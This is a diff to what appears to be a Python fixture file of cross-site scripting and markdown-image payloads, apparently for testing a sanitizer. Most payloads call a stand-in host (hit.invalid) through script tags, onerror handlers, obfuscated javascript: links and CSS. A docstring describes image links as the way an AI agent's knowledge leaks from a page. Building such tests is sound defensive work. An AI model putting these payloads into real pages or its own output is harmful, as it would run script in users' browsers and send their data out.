@@ -8,6 +8,9 @@ from collections.abc import Iterator
 HIT = "http://hit.invalid/NUMBER"
 ASK = f"new Image().src='{HIT}'"
 
+ACT = f"void({ASK})"
+"""The same where what comes of it would be shown as a page."""
+
 RAW = [
     f"<script>{ASK}</script>",
     f"<script src={HIT}></script>",
@@ -15,7 +18,7 @@ RAW = [
     f"<img src={HIT}>",
     f'<img src=x onerror="{ASK}">',
     f'<IMG SRC=x OnErRoR="{ASK}">',
-    f'<img/src=x/onerror="{ASK}">',
+    f'<div><img/src="x"/onerror="{ASK}"></div>',
     f"<img src='x' onerror = '{ASK.replace(chr(39), '&#39;')}'>",
     f'<svg onload="{ASK}"></svg>',
     f"<svg><script>{ASK}</script></svg>",
@@ -26,7 +29,7 @@ RAW = [
     f"<math><mtext><img src={HIT}></mtext></math>",
     f"<iframe src={HIT}></iframe>",
     f'<iframe srcdoc="<img src={HIT}>"></iframe>',
-    f'<iframe src="javascript:{ASK}"></iframe>',
+    f'<iframe src="javascript:{ACT}"></iframe>',
     f'<iframe src="data:text/html,<img src={HIT}>"></iframe>',
     f"<object data={HIT}></object>",
     f"<embed src={HIT}>",
@@ -46,7 +49,7 @@ RAW = [
     f'<body onload="{ASK}">',
     f"<body background={HIT}>",
     f"<table background={HIT}><tr><td>x</table>",
-    f"<td background={HIT}>x</td>",
+    f"<table><tr><td background={HIT}>x</table>",
     f"<input type=image src={HIT}>",
     f'<input autofocus onfocus="{ASK}">',
     f'<select autofocus onfocus="{ASK}"></select>',
@@ -54,17 +57,17 @@ RAW = [
     f'<button autofocus onfocus="{ASK}">x</button>',
     f'<a autofocus tabindex=1 href=# onfocus="{ASK}">x</a>',
     f'<details open ontoggle="{ASK}">x</details>',
-    f'<marquee onstart="{ASK}">x</marquee>',
+    f"<style>@font-face{{font-family:f;src:url({HIT})}}p{{font-family:f}}</style><p>x</p>",
     f'<meta http-equiv=refresh content="0;url={HIT}">',
     f"<base href={HIT}/><img src=x>",
     f"<form id=f action={HIT}></form><script>f.submit()</script>",
     f"<picture><source srcset={HIT}><img src=x></picture>",
     f'<img srcset="{HIT} 1x">',
-    f'<img src=`x` alt="`"onerror="{ASK}" src=y>',
+    f'<div><img src=`x` alt="`"onerror="{ASK}" src=y></div>',
     f"<template><p>x</template><img src={HIT}>",
     f'<noscript><p title="</noscript><img src={HIT}>">',
     f"<!--><img src={HIT}>-->",
-    f"<![CDATA[<img src={HIT}>",
+    f"<![CDATA[><img src={HIT}>]]>",
     f"<x onmouseover=1 style='animation:a 1s' onanimationstart=\"{ASK}\">x</x><style>@keyframes a{{}}</style>",
     f"<p><b><i></p><img src={HIT}></i></b>",
     f'<title><p title="</title><img src={HIT}>">',
@@ -86,7 +89,7 @@ PICTURES = [
     f"![p][r]\n\n[r]: {HIT}",
     f"![r]\n\n[r]: {HIT}",
     f"[![p]({HIT})](https://example.com)",
-    f"![p](//hit.invalid/NUMBER)",
+    "![p](//hit.invalid/NUMBER)",
     f"- [x] ![p]({HIT})",
     f"> ![p]({HIT})",
     f"| a |\n|---|\n| ![p]({HIT}) |",
@@ -97,18 +100,18 @@ PICTURES = [
 """Pictures of another site: the way in which what an agent knows leaves the page."""
 
 LINKS = [
-    f"[x](javascript:{ASK.replace('(', '%28').replace(')', '%29').replace(' ', '%20')})",
-    f"[x](JaVaScRiPt:{ASK.replace('(', '%28').replace(')', '%29').replace(' ', '%20')})",
-    f"[x](<javascript:{ASK}>)",
-    f"[x](<java&Tab;script:{ASK}>)",
-    f"[x](<&#106;avascript:{ASK}>)",
-    f"[x](<&#x6A;avascript:{ASK}>)",
-    f"[x](<javascript&colon;{ASK}>)",
-    f"[x](<javascript://%0a{ASK}>)",
-    f"[x][r]\n\n[r]: <javascript:{ASK}>",
-    f'<a href="javascript:{ASK}">x</a>',
-    f'<a href="java\tscript:{ASK}">x</a>',
-    f'<a href="\x01javascript:{ASK}">x</a>',
+    f"[x](javascript:{ACT.replace('(', '%28').replace(')', '%29').replace(' ', '%20')})",
+    f"[x](JaVaScRiPt:{ACT.replace('(', '%28').replace(')', '%29').replace(' ', '%20')})",
+    f"[x](<javascript:{ACT}>)",
+    f'<a href="java&Tab;script:{ACT}">x</a>',
+    f"[x](<&#106;avascript:{ACT}>)",
+    f"[x](<&#x6A;avascript:{ACT}>)",
+    f"[x](<javascript&colon;{ACT}>)",
+    f"[x](<javascript:%0a{ACT}>)",
+    f"[x][r]\n\n[r]: <javascript:{ACT}>",
+    f'<a href="javascript:{ACT}">x</a>',
+    f'<a href="java\tscript:{ACT}">x</a>',
+    f'<a href="\x01javascript:{ACT}">x</a>',
 ]
 """Links that act when they are followed."""
 
